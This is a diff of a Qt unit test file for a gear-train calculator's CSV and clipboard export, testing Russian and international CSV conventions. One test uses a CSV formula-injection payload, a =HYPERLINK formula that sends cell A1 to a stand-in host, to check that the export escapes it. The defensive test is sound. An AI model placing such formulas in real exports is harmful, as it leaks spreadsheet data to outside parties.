@@ -4,6 +4,7 @@
 // display rule of the table, and the CSV and clipboard texts.
 #include "calc/input_text.h"
 #include "machine/lines.h"
+#include "machine/table_export.h"
 #include "machine/train.h"
 #include "machine/train_table.h"
 
@@ -61,6 +62,7 @@ Pairs reducer(const QString &secondFr1 = QStringLiteral("8,35714285714286")) {
 Q_DECLARE_METATYPE(Pairs)
 Q_DECLARE_METATYPE(machine::Unit)
 Q_DECLARE_METATYPE(machine::SpeedUnit)
+Q_DECLARE_METATYPE(machine::CsvConvention)
 
 class MachineTrainTest : public QObject {
     Q_OBJECT
@@ -601,31 +603,68 @@ private slots:
         QTEST(tableNumber(value, precision), "text");
     }
 
+    // Each convention with every kind of field: a summary with a quoted note
+    // of two lines and a known speed in cells of its own, headings with a
+    // comma, numbers with their decimal separator, texts with a comma quoted.
+    void csv_bytes_for_a_spreadsheet_data() {
+        QTest::addColumn<CsvConvention>("convention");
+        QTest::addColumn<QByteArray>("expected");
+        QTest::newRow("Russian: semicolons, decimal comma")
+            << CsvConvention::Russian
+            << QByteArray("\xEF\xBB\xBF"
+                          "Агрегат;Насос Н-3\r\n"
+                          "Примечания;\"вход, выход\nвторая строка\"\r\n"
+                          "Известная скорость;1200;об/мин;вал 1\r\n"
+                          "Единицы;Гц\r\n"
+                          "Общее передаточное отношение (вал 1 / вал 2);\"5,25\"\r\n"
+                          "\r\n"
+                          "Пара;Z1;Z2;i;\"Fr1, Гц\";\"Fr2, Гц\";\"Fz, Гц\";Na;\"APF, Гц\";"
+                          "\"HTF, Гц\";\"Период HTF, с\";Охотящаяся;Примечание\r\n"
+                          "1;8;42;\"5,25\";20;\"3,80952\";160;2;80;\"0,952381\";\"1,05\";нет;"
+                          "\"в полях ввода, не записана в цепь («Далее >»)\"\r\n"
+                          "\r\n"
+                          "Вал;Название;\"Частота вращения, Гц\";Расположение\r\n"
+                          "1;двигатель;20;входной: колесо 1 пары 1\r\n"
+                          "2;;\"3,80952\";выходной: колесо 2 пары 1\r\n"
+                          "\r\n");
+        QTest::newRow("international: commas, decimal point")
+            << CsvConvention::International
+            << QByteArray("\xEF\xBB\xBF"
+                          "Агрегат,Насос Н-3\r\n"
+                          "Примечания,\"вход, выход\nвторая строка\"\r\n"
+                          "Известная скорость,1200,об/мин,вал 1\r\n"
+                          "Единицы,Гц\r\n"
+                          "Общее передаточное отношение (вал 1 / вал 2),5.25\r\n"
+                          "\r\n"
+                          "Пара,Z1,Z2,i,\"Fr1, Гц\",\"Fr2, Гц\",\"Fz, Гц\",Na,\"APF, Гц\","
+                          "\"HTF, Гц\",\"Период HTF, с\",Охотящаяся,Примечание\r\n"
+                          "1,8,42,5.25,20,3.80952,160,2,80,0.952381,1.05,нет,"
+                          "\"в полях ввода, не записана в цепь («Далее >»)\"\r\n"
+                          "\r\n"
+                          "Вал,Название,\"Частота вращения, Гц\",Расположение\r\n"
+                          "1,двигатель,20,входной: колесо 1 пары 1\r\n"
+                          "2,,3.80952,выходной: колесо 2 пары 1\r\n"
+                          "\r\n");
+    }
     void csv_bytes_for_a_spreadsheet() {
+        QFETCH(CsvConvention, convention);
+        MachineDocument d;
+        d.name = "Насос Н-3";
+        d.notes = "вход, выход\nвторая строка";
+        d.known = {1, "1200", SpeedUnit::PerMinute};
+        d.shaftNames = {"двигатель"};
         const TrainTables t =
-            trainTables(buildTrain({{"8", "20", "42", "0"}}, true, 1000), {Unit::Hertz, 1});
-        const QByteArray expected =
-            "\xEF\xBB\xBF"
-            "Пара;Z1;Z2;i;Fr1, Гц;Fr2, Гц;Fz, Гц;Na;APF, Гц;HTF, Гц;Период HTF, с;Охотящаяся;"
-            "Примечание\r\n"
-            "1;8;42;5,25;20;3,80952;160;2;80;0,952381;1,05;нет;в полях ввода, ещё не "
-            "сохранена\r\n"
-            "\r\n"
-            "Вал;Название;Частота вращения, Гц;Расположение\r\n"
-            "1;;20;входной: колесо 1 пары 1\r\n"
-            "2;;3,80952;выходной: колесо 2 пары 1\r\n"
-            "\r\n"
-            "Общее передаточное отношение (вал 1 / вал 2): 5,25\r\n";
-        QCOMPARE(trainCsv(t), expected);
+            trainTables(buildTrain({{"8", "20", "42", "0"}}, true, 1000), {Unit::Hertz, 1}, d);
+        QTEST(trainCsv(t, convention), "expected");
     }
 
     void csv_quotes_a_field_with_a_semicolon() {
         // A broken chain and a pair in the fields: two notes joined by "; ".
         const TrainTables t = trainTables(buildTrain(reducer("9"), true, 1), {Unit::Hertz, 1});
         const QList<QByteArray> lines = trainCsv(t).split('\n');
-        QVERIFY(lines[2].endsWith(
-            "\"цепь разорвана: по паре 1 Fr1 = 8,35714285714286 Гц; в полях ввода, ещё не "
-            "сохранена\"\r"));
+        QVERIFY2(lines[8].endsWith("\"цепь разорвана: по паре 1 Fr1 = 8,35714285714286 Гц; в "
+                                   "полях ввода, не записана в цепь («Далее >»)\"\r"),
+                 lines[8].constData());
     }
 
     // A text a spreadsheet would run as a formula stays text; numbers stay numbers.
@@ -671,18 +710,19 @@ private slots:
         const TrainTables t =
             trainTables(buildTrain({{link, "20", "42", "0"}}, false, 1), {Unit::Hertz, 1});
         const QList<QByteArray> lines = trainCsv(t).split('\n');
-        QVERIFY2(lines[1].startsWith("1;\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,"),
-                 lines[1].constData());
-        QVERIFY(trainTabText(t).split('\n')[1].startsWith("1\t'=HYPERLINK(\"http"));
+        QVERIFY2(lines[7].startsWith("1;\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,"),
+                 lines[7].constData());
+        QVERIFY(trainTabText(t).split('\n')[7].startsWith("1\t'=HYPERLINK(\"http"));
     }
 
     void tab_text_for_the_clipboard() {
         const TrainTables t =
             trainTables(buildTrain({{"8", "20", "42", "0"}}, false, 1000), {Unit::PerMinute, 1});
         const QStringList lines = trainTabText(t).split(QLatin1Char('\n'));
-        QCOMPARE(lines[1], QStringLiteral("1\t8\t42\t5,25\t1200\t228,571\t9600\t2\t4800\t57,1429\t"
+        QCOMPARE(lines[3], QStringLiteral("Единицы\tоб/мин\tCPM"));
+        QCOMPARE(lines[7], QStringLiteral("1\t8\t42\t5,25\t1200\t228,571\t9600\t2\t4800\t57,1429\t"
                                           "1,05\tнет\t"));
-        QCOMPARE(lines[5], QStringLiteral("2\t\t228,571\tвыходной: колесо 2 пары 1"));
+        QCOMPARE(lines[11], QStringLiteral("2\t\t228,571\tвыходной: колесо 2 пары 1"));
     }
 };
 
